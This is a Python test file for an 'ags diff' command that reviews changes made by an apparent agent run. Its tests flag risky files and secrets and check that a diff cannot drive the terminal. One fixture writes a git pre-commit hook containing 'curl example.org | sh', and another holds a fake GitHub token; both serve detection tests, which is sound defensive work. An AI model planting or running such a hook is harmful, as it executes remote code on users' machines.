"""`ags diff`: what a run changed, and what to look at first."""

from __future__ import annotations

import json

from ags import runs
from ags.paint import cells
from tests.cli.desk import HOSTILE, Desk, is_harmless

HOOK = {".husky/pre-commit": "curl example.org | sh\n", "a.txt": "hello\nworld\n"}
TOKEN = "ghp_" + "a1B2" * 9


def test_a_diff_has_a_head_and_every_change(desk: Desk) -> None:
    run = desk.finished(files={"a.txt": "hello\nworld\n", "new/b.txt": "b\n"})
    said = desk.ags("diff", "fix-login")
    assert (said.code, said.err) == (0, "")
    assert run.base is not None
    assert said.out.splitlines() == [
        f"fix-login  {run.base[:12]}..agent--fix-login",
        "2 files, 1 added, 1 modified, +2 −0",
        "",
        "modified a.txt (+1 −0)",
        "@@ -1,1 +1,2 @@",
        " hello",
        "+world",
        "",
        "added new/b.txt (+1 −0)",
        "@@ -0,0 +1,1 @@",
        "+b",
    ]


def test_what_the_host_would_run_later_comes_first(desk: Desk) -> None:
    desk.finished(files=HOOK | {"settings.py": f"x = 1\ntoken = '{TOKEN}'\n"})
    lines = desk.ags("diff", "fix-login").out.splitlines()
    first = lines.index("This looks like a secret:")
    assert lines[first + 1] == "  settings.py:2  this looks like a GitHub token"
    assert lines[first + 2].startswith("Your machine, or a service")
    assert lines[first + 3] == "  .husky/pre-commit  git runs it on commit, push or checkout"
    assert first + 3 < lines.index("modified a.txt (+1 −0)")


def test_a_harmless_change_has_nothing_to_look_at_first(desk: Desk) -> None:
    desk.finished()
    assert "Your machine" not in desk.ags("diff", "fix-login").out


def test_stat_has_a_bar_for_each_file(desk: Desk) -> None:
    long = "".join(f"{n}\n" for n in range(500))
    desk.finished(files={"a.txt": "world\n", "deep/er/long.txt": long, "b.bin": b"\0" * 9})
    lines = desk.ags("diff", "--stat", "fix-login").out.splitlines()
    assert lines[0] == " a.txt            |   2 +-"
    assert lines[1] == " b.bin            | Bin 0 → 9 bytes"
    assert lines[2].startswith(" deep/er/long.txt | 500 ++++++++") and cells(lines[2]) <= 100
    assert lines[-1].endswith(" 3 files, 2 added, 1 modified, +501 −1")


def test_stat_cuts_names_that_are_too_long(desk: Desk) -> None:
    desk.finished(files={f"{'d' * 100}/{'漢' * 60}": "x\n"})
    line, _ = desk.ags("diff", "--stat", "fix-login").out.splitlines()
    assert cells(line) <= 100 and "…" in line


def test_json_has_the_diff_and_the_risks(desk: Desk) -> None:
    run = desk.finished(files=HOOK | {"not-utf8-\udcff": "x\n"})
    said = desk.ags("diff", "--json", "fix-login")
    assert said.out.isascii()
    found = json.loads(said.out)
    assert run.result is not None
    assert (found["run"], found["old"], found["new"]) == (run.name, run.base, run.result.commit)
    assert found["stat"]["files"] == 3
    assert [risk["path"] for risk in found["risks"]] == [".husky/pre-commit"]
    assert set(found["risks"][0]) == {"path", "line", "sort", "reason"}
    assert "not-utf8-\\xff" in [file["path"] for file in found["files"]]


def test_nothing_in_a_diff_is_obeyed_by_the_terminal(desk: Desk) -> None:
    name = HOSTILE.replace("\0", "")
    desk.finished(files={f"{name}.mk": HOSTILE, "a.txt": f"hello\n{name}\n"})
    for arguments in ((), ("--stat",), ("--json",)):
        code, screen = desk.on_terminal("diff", "--no-pager", *arguments, "fix-login")
        assert code == 0 and is_harmless(screen), screen


def test_colours_as_asked_for(desk: Desk) -> None:
    desk.finished()
    assert "\x1b[32m+world\x1b[0m" in desk.ags("diff", "--color", "always", "fix-login").out
    assert "\x1b[" not in desk.ags("diff", "fix-login").out
    on_screen = desk.on_terminal("diff", "--no-pager", "fix-login")[1]
    assert "\x1b[32m+world\x1b[0m" in on_screen
    never = desk.on_terminal("diff", "--no-pager", "--color", "never", "fix-login")[1]
    assert "\x1b[" not in never


def test_a_run_that_did_nothing_says_why_there_is_no_diff(desk: Desk) -> None:
    desk.record(state="failed", started=None)
    said = desk.refused("diff", "fix-login")
    assert "it ended before it did anything" in said and "ags logs fix-login" in said


def test_stat_and_json_exclude_each_other(desk: Desk) -> None:
    assert desk.ags("diff", "--stat", "--json", "x").code == 2


def test_a_name_that_is_no_runs_is_refused(desk: Desk) -> None:
    assert "there is no run of this name" in desk.refused("diff", "nobody")


def test_a_patch_is_what_git_apply_takes(desk: Desk) -> None:
    run = desk.finished()
    assert run.base is not None and run.result is not None
    made = desk.project.git("diff", "--binary", run.base, run.result.commit)
    (runs.directory(desk.state, run.id) / "result.patch").write_bytes(made)
    said = desk.ags("diff", "--patch", "fix-login")
    desk.project.git("apply", stdin=said.out.encode())
    assert desk.project.ask("status", "--short") == "M a.txt"


def test_a_patch_is_not_for_terminals(desk: Desk) -> None:
    desk.finished()
    code, shown = desk.on_terminal("diff", "--patch", "fix-login")
    assert code == 1 and "this is a terminal" in shown
